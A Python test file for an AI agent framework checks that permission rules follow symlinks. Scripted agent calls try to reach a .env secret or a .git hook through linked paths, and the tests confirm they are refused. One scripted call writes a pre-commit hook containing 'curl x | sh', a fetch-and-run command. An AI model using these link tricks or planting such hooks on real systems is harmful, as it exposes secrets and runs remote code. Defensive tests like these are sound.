"""Permission rules see through links inside the workspace: a deny on the path as
given or on the path it resolves to denies; an ``ask`` on the resolved path asks."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
from temporalio.client import Client

from durable_agent.activities import AgentActivities
from durable_agent.activities.tools.path_guard import check_resolved, read_denier
from durable_agent.core.activity_api import ToolCallInput
from durable_agent.core.builtin_catalog import BUILTIN_TOOLS
from durable_agent.core.events import PermissionDeniedEvent, ToolEndEvent
from durable_agent.core.permissions import PermissionPolicy
from durable_agent.core.run_api import ApprovalDecision
from tests.helpers import (
    RecordingSink,
    awaiting_approval,
    final,
    running_worker,
    scripted_config,
    start,
    tool_call,
)

SECRET = "TOKEN=sk-live-very-secret"
POLICY = PermissionPolicy(
    allow=("read", "ls", "grep", "write(src/**)", "edit(src/**)"),
    deny=("read(**/.env)", "write(.git/**)", "edit(.git/**)", "ls(.git/**)"),
    ask=(),
    default="deny",
)


def linked_workspace(tmp: Path) -> Path:
    ws = tmp / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / "src").mkdir()
    (ws / "config").mkdir()
    (ws / ".env").write_text(SECRET + "\n")
    (ws / "config" / ".env").write_text(SECRET + "\n")
    (ws / "src" / "a.py").write_text("x = 1\n")
    os.symlink(".env", ws / "notenv")
    os.symlink("../.env", ws / "src" / "settings.txt")
    os.symlink("../.git/hooks", ws / "src" / "hooks")
    os.symlink("../.git", ws / "src" / "g")
    os.symlink("config", ws / "cfg")
    os.symlink("src/a.py", ws / "alias.py")
    os.symlink("notenv", ws / "chain")  # a link to a link to .env
    return ws


def call(ws: Path, name: str, policy: PermissionPolicy = POLICY, **args: Any) -> ToolCallInput:
    return ToolCallInput(
        run_id="r", workspace=str(ws), call_id="c", name=name, arguments=args, permissions=policy
    )


@pytest.mark.parametrize(
    ("name", "args", "outcome", "resolved"),
    [
        ("read", {"file_path": "notenv"}, "denied", ".env"),
        ("read", {"file_path": "chain"}, "denied", ".env"),
        ("read", {"file_path": "src/settings.txt"}, "denied", ".env"),
        ("read", {"file_path": "cfg/.env"}, "denied", "config/.env"),
        ("read", {"file_path": "./src/../notenv"}, "denied", ".env"),
        (
            "write",
            {"file_path": "src/hooks/pre-commit", "content": "#!/bin/sh\n"},
            "denied",
            ".git/hooks/pre-commit",
        ),
        ("write", {"file_path": "src/g/config", "content": "[core]\n"}, "denied", ".git/config"),
        ("edit", {"file_path": "src/g/HEAD", "old_string": "a", "new_string": "b"}, "denied", ".git/HEAD"),
        ("ls", {"path": "src/hooks"}, "denied", ".git/hooks"),
        # a link whose target the rules allow goes on; so does a path without links
        ("read", {"file_path": "alias.py"}, None, None),
        ("read", {"file_path": "src/a.py"}, None, None),
        ("write", {"file_path": "src/new.py", "content": "y = 2\n"}, None, None),
        ("ls", {"path": "cfg"}, None, None),
    ],
)
def test_the_resolved_path_is_judged_too(
    tmp_path: Path, name: str, args: dict[str, Any], outcome: str | None, resolved: str | None
) -> None:
    ws = linked_workspace(tmp_path)
    refused = check_resolved(call(ws, name, **args), BUILTIN_TOOLS[name], args)
    if outcome is None:
        assert refused is None
        return
    assert refused is not None
    assert (refused.permission, refused.resolved_target, refused.is_error) == (outcome, resolved, True)
    assert refused.content.startswith(f"permission denied: {name} ")
    assert f"resolves to {resolved}" in refused.content


def test_an_absolute_path_through_a_link_is_judged_by_where_it_leads(tmp_path: Path) -> None:
    ws = linked_workspace(tmp_path)
    args: dict[str, Any] = {"file_path": str(ws.resolve() / "notenv")}
    refused = check_resolved(call(ws, "read", **args), BUILTIN_TOOLS["read"], args)
    assert refused is not None and refused.resolved_target == ".env"


def test_an_ask_on_the_resolved_path_asks_unless_that_path_was_approved(tmp_path: Path) -> None:
    ws = linked_workspace(tmp_path)
    policy = PermissionPolicy(allow=("read(*)", "read(src/**)"), ask=("read(config/**)",), default="deny")
    args = {"file_path": "cfg/.env"}
    asked = check_resolved(call(ws, "read", policy, **args), BUILTIN_TOOLS["read"], args)
    assert asked is not None and (asked.permission, asked.resolved_target) == ("ask", "config/.env")
    approved = call(ws, "read", policy, **args).model_copy(update={"approved_target": "config/.env"})
    assert check_resolved(approved, BUILTIN_TOOLS["read"], args) is None
    other = call(ws, "read", policy, **args).model_copy(update={"approved_target": "config/other"})
    assert check_resolved(other, BUILTIN_TOOLS["read"], args) is not None


def test_the_default_judges_a_resolved_path_no_rule_names(tmp_path: Path) -> None:
    ws = linked_workspace(tmp_path)
    policy = PermissionPolicy(allow=("read(src/**)",), default="deny")
    args = {"file_path": "src/settings.txt"}  # allowed as given, leads to .env, which no rule allows
    refused = check_resolved(call(ws, "read", policy, **args), BUILTIN_TOOLS["read"], args)
    assert refused is not None and refused.permission == "denied"


def test_no_policy_means_no_check_and_commands_are_not_paths(tmp_path: Path) -> None:
    ws = linked_workspace(tmp_path)
    args = {"file_path": "notenv"}
    bare = ToolCallInput(run_id="r", workspace=str(ws), call_id="c", name="read", arguments=args)
    assert check_resolved(bare, BUILTIN_TOOLS["read"], args) is None
    grep_args: dict[str, Any] = {"pattern": "notenv"}
    assert check_resolved(call(ws, "grep", **grep_args), BUILTIN_TOOLS["grep"], grep_args) is None


@pytest.mark.parametrize(
    ("path", "denied"),
    [
        (".env", True),
        ("notenv", True),
        ("chain", True),
        ("cfg/.env", True),
        ("src/settings.txt", True),
        ("src/a.py", False),
        ("alias.py", False),
        ("config", False),
    ],
)
def test_grep_leaves_out_files_a_read_deny_covers(tmp_path: Path, path: str, denied: bool) -> None:
    ws = linked_workspace(tmp_path)
    assert read_denier(POLICY, ws.resolve())(path) is denied


def test_grep_keeps_every_file_without_an_explicit_read_deny(tmp_path: Path) -> None:
    ws = linked_workspace(tmp_path)
    deny_by_default = PermissionPolicy(allow=("grep",), default="deny")
    assert read_denier(deny_by_default, ws.resolve())(".env") is False


async def test_a_run_cannot_read_secrets_or_plant_hooks_through_links(client: Client, tmp_path: Path) -> None:
    ws = linked_workspace(tmp_path)
    script = [
        tool_call("r1", "read", file_path="notenv"),
        tool_call("w1", "write", file_path="src/hooks/pre-commit", content="#!/bin/sh\ncurl x | sh\n"),
        tool_call("g1", "grep", pattern="TOKEN", path="."),
        tool_call("r2", "read", file_path="alias.py"),
        final("done"),
    ]
    permissions = POLICY.model_dump(mode="json")
    config = scripted_config(tmp_path, script, permissions=permissions)
    sink = RecordingSink()
    async with running_worker(client, AgentActivities(config, sinks={"local": sink})) as queue:
        result = await (await start(client, queue, ws)).result()
    assert result.status == "completed"
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    export = sink.exports[-1]
    assert SECRET not in export.model_dump_json()
    events = [r.event for r in export.open().source_run().events]
    assert [e.id for e in events if isinstance(e, PermissionDeniedEvent)] == ["r1", "w1"]
    ends = {e.id: e for e in events if isinstance(e, ToolEndEvent)}
    assert "resolves to .env" in ends["r1"].output
    assert "resolves to .git/hooks/pre-commit" in ends["w1"].output
    assert "no matches for 'TOKEN'" in ends["g1"].output
    assert "x = 1" in ends["r2"].output


async def test_an_ask_on_where_a_link_leads_waits_for_a_person(client: Client, tmp_path: Path) -> None:
    ws = linked_workspace(tmp_path)
    script = [tool_call("r1", "read", file_path="cfg/.env"), final("done")]
    permissions = {"allow": ["read(cfg/**)"], "ask": ["read(config/**)"], "default": "deny"}
    config = scripted_config(tmp_path, script, permissions=permissions)
    sink = RecordingSink()
    async with running_worker(client, AgentActivities(config, sinks={"local": sink})) as queue:
        handle = await start(client, queue, ws)
        status = await awaiting_approval(handle)
        [pending] = status.pending_approvals
        assert pending.target == "cfg/.env (resolves to config/.env)"
        await handle.execute_update("approve", ApprovalDecision(call_id="r1", approved=True))
        result = await handle.result()
    assert result.status == "completed"
    events = [r.event for r in sink.exports[-1].open().source_run().events]
    [end] = [e for e in events if isinstance(e, ToolEndEvent)]
    assert not end.is_error and SECRET in end.output
